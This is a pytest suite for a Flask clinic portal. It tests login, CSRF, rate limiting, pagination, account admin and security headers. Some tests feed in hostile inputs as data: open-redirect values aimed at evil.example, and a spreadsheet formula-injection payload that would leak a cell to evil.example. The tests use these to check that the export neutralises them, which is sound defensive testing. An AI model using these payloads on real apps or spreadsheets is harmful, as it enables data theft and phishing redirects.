"""The web app (login, clinic portal, accounts) on real SQLite and PostgreSQL, with CSRF on.

Tests drive it like a browser: they read the CSRF token from the rendered form and post it back.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from types import SimpleNamespace

import pytest
from flask import Flask
from sqlalchemy import select

import web
from bot.auth import hash_password
from bot.db import session_scope
from bot.inquiries.service import save_inquiry
from bot.models import Inquiry, User, utcnow
from tests.web_helpers import (  # noqa: F401 - fixtures are used by name
    CSRF_FIELD,
    LOGIN_FAILED,
    PASSWORD,
    _secrets,
    _without_tokens,
    app,
    csrf_token,
    inquiry_request,
    inquiry_row,
    link_shown,
    logged_in,
    login,
    path_of,
    text,
    use_link,
    world,
)

# ---------------------------------------------------------------- logging in and out


def test_login_lands_on_the_role_home_and_logout_needs_a_post(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    response = login(client, "One@C1.example")
    assert response.status_code == 303 and path_of(response.location) == "/portal"
    cookie = response.headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and "Expires=" in cookie
    page = client.get("/portal")
    assert page.status_code == 200 and "one@c1.example" in text(page) and "Log out" in text(page)
    with session_scope(world.engine) as session:
        assert session.execute(select(User).where(User.email == "one@c1.example")).scalar_one().last_login_at

    assert client.get("/logout").status_code == 405
    assert client.get("/portal").status_code == 200  # still logged in
    response = client.post("/logout", data={"csrf_token": csrf_token(page)})
    assert response.status_code == 303 and path_of(response.location) == "/login"
    assert "You have logged out." in text(client.get("/login"))
    assert client.get("/portal").status_code == 302


def test_staff_land_on_admin_and_next_is_followed_only_when_local(app: Flask, world: SimpleNamespace) -> None:
    response = login(app.test_client(), "admin@example.org")
    assert path_of(response.location) == "/admin"
    response = login(app.test_client(), "admin@example.org", next_url="/admin/accounts")
    assert response.location == "/admin/accounts"
    for hostile in ("//evil.example/x", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"):
        response = login(app.test_client(), "admin@example.org", next_url=hostile)
        assert response.status_code == 303 and response.location == "/admin", hostile


def test_wrong_password_and_unknown_user_get_the_same_401_answer(app: Flask, world: SimpleNamespace) -> None:
    wrong = login(app.test_client(), "one@c1.example", "wrong password, long enough")
    unknown = login(app.test_client(), "nobody@c1.example", "wrong password, long enough")
    assert wrong.status_code == unknown.status_code == 401
    assert LOGIN_FAILED in text(wrong)
    assert _without_tokens(text(wrong), "one@c1.example") == _without_tokens(text(unknown), "nobody@c1.example")
    with session_scope(world.engine) as session:
        assert session.execute(select(User).where(User.email == "one@c1.example")).scalar_one().last_login_at is None


def test_an_empty_form_is_a_400_with_field_errors(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    response = client.post("/login", data={"email": "", "password": "", "csrf_token": csrf_token(client.get("/login"))})
    assert response.status_code == 400
    assert "Enter your e-mail address." in text(response) and 'aria-invalid="true"' in text(response)


def test_a_disabled_account_cannot_log_in_and_its_open_session_ends(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    with session_scope(world.engine) as session:
        session.execute(select(User).where(User.email == "one@c1.example")).scalar_one().active = False
    response = client.get("/portal")
    assert response.status_code == 302 and path_of(response.location) == "/login"
    response = login(app.test_client(), "one@c1.example")
    assert response.status_code == 401 and LOGIN_FAILED in text(response)
    assert "disabled" not in text(response).lower()


def test_sessions_end_at_most_eight_hours_after_login(
    app: Flask, world: SimpleNamespace, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert app.permanent_session_lifetime == dt.timedelta(hours=8)
    client = logged_in(app, "one@c1.example")
    assert client.get("/portal").status_code == 200
    monkeypatch.setattr(web, "SESSION_LIFETIME", dt.timedelta(0))  # as if 8 hours had passed
    response = client.get("/portal")
    assert response.status_code == 302 and path_of(response.location) == "/login"


def test_changing_the_password_ends_other_sessions(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    with session_scope(world.engine) as session:
        user = session.execute(select(User).where(User.email == "one@c1.example")).scalar_one()
        user.password_hash = hash_password("a brand new password")
    assert client.get("/portal").status_code == 302


def test_login_attempts_are_rate_limited_per_address(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    token = csrf_token(client.get("/login"))
    attacker = {"REMOTE_ADDR": "203.0.113.7"}
    guess = {"email": "one@c1.example", "password": "guess number one!", "csrf_token": token}
    right = dict(guess, password=PASSWORD)
    for _ in range(4):
        assert client.post("/login", data=guess, environ_base=attacker).status_code == 401
    for _ in range(3):  # successful logins do not use up the allowance (one office, many staff)
        assert client.post("/login", data=right, environ_base=attacker).status_code == 303
        token = csrf_token(client.get("/portal", environ_base=attacker))
        assert client.post("/logout", data={"csrf_token": token}, environ_base=attacker).status_code == 303
        guess["csrf_token"] = right["csrf_token"] = csrf_token(client.get("/login", environ_base=attacker))
    assert client.post("/login", data=guess, environ_base=attacker).status_code == 401  # the fifth failure
    blocked = client.post("/login", data=guess, environ_base=attacker)
    assert blocked.status_code == 429
    assert "Too many attempts" in text(blocked) and "Retry-After" in blocked.headers
    assert client.post("/login", data=right, environ_base=attacker).status_code == 429
    assert client.get("/login", environ_base=attacker).status_code == 200  # only POST is limited
    other = client.post("/login", data=right, environ_base={"REMOTE_ADDR": "198.51.100.9"})
    assert other.status_code == 303


# ---------------------------------------------------------------- CSRF


def test_login_without_or_with_a_forged_csrf_token_is_refused(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    client.get("/login")
    credentials = {"email": "one@c1.example", "password": PASSWORD}
    missing = client.post("/login", data=credentials)
    assert missing.status_code == 400 and "security token" in text(missing)
    forged = client.post("/login", data=dict(credentials, csrf_token="forged"))
    assert forged.status_code == 400
    foreign_token = csrf_token(app.test_client().get("/login"))  # valid, but for another browser
    assert client.post("/login", data=dict(credentials, csrf_token=foreign_token)).status_code == 400
    assert client.get("/portal").status_code == 302  # not logged in


def test_status_change_and_logout_without_a_valid_csrf_token_are_refused(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    url = f"/portal/inquiries/{world.own}/status"
    assert client.post(url, data={"status": "closed"}).status_code == 400
    assert client.post(url, data={"status": "closed", "csrf_token": "forged"}).status_code == 400
    assert inquiry_row(world.engine, world.own).status == "new"
    assert client.post("/logout").status_code == 400
    assert client.post("/logout", data={"csrf_token": "forged"}).status_code == 400
    assert client.get("/portal").status_code == 200  # still logged in


# ---------------------------------------------------------------- the portal


def test_inquiries_are_listed_newest_first_without_delivery_errors(app: Flask, world: SimpleNamespace) -> None:
    now = utcnow()
    with session_scope(world.engine) as session:
        older = save_inquiry(session, inquiry_request("c1", first_name="Older"))
        newest = save_inquiry(session, inquiry_request("c1", first_name="Newest"))
        older.created_at = now - dt.timedelta(days=2)
        newest.created_at = now + dt.timedelta(minutes=1)
        own = session.execute(select(Inquiry).where(Inquiry.reference == world.own)).scalar_one()
        own.created_at = now - dt.timedelta(days=1)
        email = own.notifications[0]
        email.status, email.attempts, email.last_error = "failed", 12, "SMTP 550 mailbox unavailable"
        newest.notifications[0].status, newest.notifications[0].sent_at = "sent", now
        references = [newest.reference, own.reference, older.reference]
    client = logged_in(app, "one@c1.example")
    page = text(client.get("/portal"))
    positions = [page.index(reference) for reference in references]
    assert positions == sorted(positions)
    assert "Olivia" in page and "olivia@example.com" in page and "weekday mornings" in page
    # Delivery problems are for administrators (the overview), never shown to the clinic.
    assert "SMTP 550" not in page and "12 attempts" not in page
    detail = text(client.get(f"/portal/inquiries/{world.own}"))
    assert "Interested in IV" in detail and "SMTP 550" not in detail and "failed" not in detail
    assert "E-mail sent" in text(client.get(f"/portal/inquiries/{newest.reference}"))


def test_the_list_is_paginated_by_50_and_filters_by_status(app: Flask, world: SimpleNamespace) -> None:
    start = utcnow() - dt.timedelta(days=10)
    with session_scope(world.engine) as session:
        own = session.execute(select(Inquiry).where(Inquiry.reference == world.own)).scalar_one()
        own.created_at, own.status = start - dt.timedelta(days=1), "contacted"  # the oldest
        for minute in range(50):
            save_inquiry(session, inquiry_request("c1")).created_at = start + dt.timedelta(minutes=minute)
    client = logged_in(app, "one@c1.example")
    first = text(client.get("/portal"))
    assert first.count('class="reference" href=') == 50 and world.own not in first
    assert "page 1 of 2" in first and "Older" in first
    second = text(client.get("/portal?page=2"))
    assert second.count('class="reference" href=') == 1 and world.own in second
    contacted = text(client.get("/portal?status=contacted"))
    assert contacted.count('class="reference" href=') == 1 and world.own in contacted
    assert client.get("/portal?status=bogus").status_code == 200


def test_a_clinic_can_change_the_status_of_its_inquiry(app: Flask, world: SimpleNamespace) -> None:
    client = logged_in(app, "one@c1.example")
    detail = client.get(f"/portal/inquiries/{world.own}")
    token = csrf_token(detail)
    response = client.post(f"/portal/inquiries/{world.own}/status", data={"status": "contacted", "csrf_token": token})
    assert response.status_code == 303 and path_of(response.location) == f"/portal/inquiries/{world.own}"
    assert inquiry_row(world.engine, world.own).status == "contacted"
    assert "now marked “Contacted”" in text(client.get(response.location))
    bad = client.post(f"/portal/inquiries/{world.own}/status", data={"status": "deleted", "csrf_token": token})
    assert bad.status_code == 400 and inquiry_row(world.engine, world.own).status == "contacted"


def test_the_export_holds_only_own_inquiries_and_neutralises_formulas(app: Flask, world: SimpleNamespace) -> None:
    with session_scope(world.engine) as session:
        hostile = save_inquiry(
            session,
            inquiry_request(
                "c1",
                first_name="@Mallory",
                contact="+1 404 555 0100",
                contact_kind="phone",
                note='=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
            ),
        ).reference
        save_inquiry(session, inquiry_request("c2", first_name="Other clinic person"))
    client = logged_in(app, "one@c1.example")
    response = client.get("/portal/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == (f'attachment; filename="inquiries-c1-{utcnow():%Y-%m-%d}.csv"')
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert sorted(row["reference"] for row in rows) == sorted([world.own, hostile])
    by_reference = {row["reference"]: row for row in rows}
    assert by_reference[world.own]["contact"] == "olivia@example.com"
    assert by_reference[world.own]["first_name"] == "Olivia"
    attack = by_reference[hostile]
    assert attack["note"].startswith("'=HYPERLINK(")
    assert attack["first_name"] == "'@Mallory" and attack["contact"] == "'+1 404 555 0100"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    assert "Other clinic person" not in response.data.decode("utf-8-sig")


# ---------------------------------------------------------------- accounts (admin)


def test_an_admin_creates_a_clinic_account_that_can_then_log_in(app: Flask, world: SimpleNamespace) -> None:
    admin = logged_in(app, "admin@example.org")
    form = admin.get("/admin/accounts/new")
    assert form.status_code == 200 and "Clinic c1 (sample) (Atlanta, GA)" in text(form)
    response = admin.post(
        "/admin/accounts/new",
        data={"email": "Front.Desk@C1.example", "role": "clinic", "clinic": "c1", "csrf_token": csrf_token(form)},
    )
    assert response.status_code == 200 and "Account created for front.desk@c1.example" in text(response)
    listing = text(admin.get("/admin/accounts"))
    assert "front.desk@c1.example" in listing and "Never" in listing and "invitation not used yet" in listing
    assert use_link(app, link_shown(response), "initial password 2026").status_code == 303
    with session_scope(world.engine) as session:
        stored = session.execute(select(User).where(User.email == "front.desk@c1.example")).scalar_one()
        assert stored.role == "clinic" and stored.password_hash.startswith("$argon2id$")
        assert "initial password 2026" not in stored.password_hash

    clinic = app.test_client()
    response = login(clinic, "front.desk@c1.example", "initial password 2026")
    assert response.status_code == 303 and path_of(response.location) == "/portal"
    page = text(clinic.get("/portal"))
    assert world.own in page and world.other not in page


def test_the_new_account_form_shows_validation_errors(app: Flask, world: SimpleNamespace) -> None:
    admin = logged_in(app, "admin@example.org")
    token = csrf_token(admin.get("/admin/accounts/new"))
    cases = [
        ({"email": "x@c1.example", "role": "clinic", "clinic": ""}, "needs a clinic"),
        ({"email": "one@c1.example", "role": "clinic", "clinic": "c1"}, "already exists"),
        ({"email": "no-at-sign", "role": "editor", "clinic": ""}, "valid e-mail"),
    ]
    for data, message in cases:
        response = admin.post("/admin/accounts/new", data=dict(data, csrf_token=token))
        assert response.status_code == 400 and message in text(response), (data, message)
    with session_scope(world.engine) as session:
        assert len(session.execute(select(User)).scalars().all()) == 3


def test_an_admin_disables_and_enables_accounts_but_not_themself(app: Flask, world: SimpleNamespace) -> None:
    admin = logged_in(app, "admin@example.org")
    token = csrf_token(admin.get("/admin/accounts"))
    with session_scope(world.engine) as session:
        ids = {user.email: user.id for user in session.execute(select(User)).scalars()}
    response = admin.post(f"/admin/accounts/{ids['one@c1.example']}/active", data={"active": "0", "csrf_token": token})
    assert response.status_code == 303
    assert login(app.test_client(), "one@c1.example").status_code == 401
    admin.post(f"/admin/accounts/{ids['one@c1.example']}/active", data={"active": "1", "csrf_token": token})
    assert login(app.test_client(), "one@c1.example").status_code == 303

    own = admin.post(f"/admin/accounts/{ids['admin@example.org']}/active", data={"active": "0", "csrf_token": token})
    assert own.status_code == 400 and "cannot disable your own account" in text(own)
    assert admin.post("/admin/accounts/9999/active", data={"active": "0", "csrf_token": token}).status_code == 404
    with session_scope(world.engine) as session:
        assert session.get(User, ids["admin@example.org"]).active
    assert admin.get("/admin/accounts").status_code == 200


# ---------------------------------------------------------------- pages and headers


def test_security_headers_and_plain_error_pages(app: Flask, world: SimpleNamespace) -> None:
    client = app.test_client()
    for response in (client.get("/login"), client.get("/nowhere")):
        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["Referrer-Policy"] == "same-origin"
        assert response.headers["Cache-Control"] == "no-store"
    missing = client.get("/nowhere")
    assert missing.status_code == 404 and "Page not found" in text(missing)
    assert "<main" in text(missing) and 'href="#main"' in text(missing)
    not_allowed = client.get("/logout")
    assert not_allowed.status_code == 405 and "POST" in not_allowed.headers["Allow"]
    css = client.get("/static/app.css")
    assert css.status_code == 200 and "no-store" not in css.headers.get("Cache-Control", "")
    css.close()
